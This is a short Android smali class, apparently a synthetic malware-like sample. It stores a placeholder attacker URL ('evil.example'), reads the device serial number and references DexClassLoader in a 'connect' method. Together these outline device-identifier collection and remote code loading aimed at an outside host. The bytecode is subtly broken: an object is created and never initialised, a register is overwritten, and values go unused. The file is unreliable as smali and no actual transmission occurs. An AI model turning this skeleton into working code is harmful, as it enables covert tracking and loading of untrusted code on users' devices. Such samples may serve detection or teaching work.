.class public Lcom/q/Device;
.super Ljava/lang/Object;
.source "Device.java"

.field public static count:I

.field private url:Ljava/lang/String;

.method public constructor <init>()V
    .registers 2
    invoke-direct {p0}, Ljava/lang/Object;-><init>()V
    const-string v0, "https://evil.example/api?x=1"
    iput-object v0, p0, Lcom/q/Device;->url:Ljava/lang/String;
    return-void
.end method

.method public id()Ljava/lang/String;
    .registers 2
    sget-object v0, Landroid/os/Build;->SERIAL:Ljava/lang/String;
    sget v1, Lcom/q/Device;->count:I
    add-int/lit8 v1, v1, 0x1
    sput v1, Lcom/q/Device;->count:I
    return-object v0
.end method

.method public connect()V
    .registers 3
    iget-object v0, p0, Lcom/q/Device;->url:Ljava/lang/String;
    const-string v1, "a_b%c"
    new-instance v2, Ldalvik/system/DexClassLoader;
    const-class v2, Ldalvik/system/DexClassLoader;
    invoke-virtual {p0}, Lcom/q/Device;->id()Ljava/lang/String;
    return-void
.end method
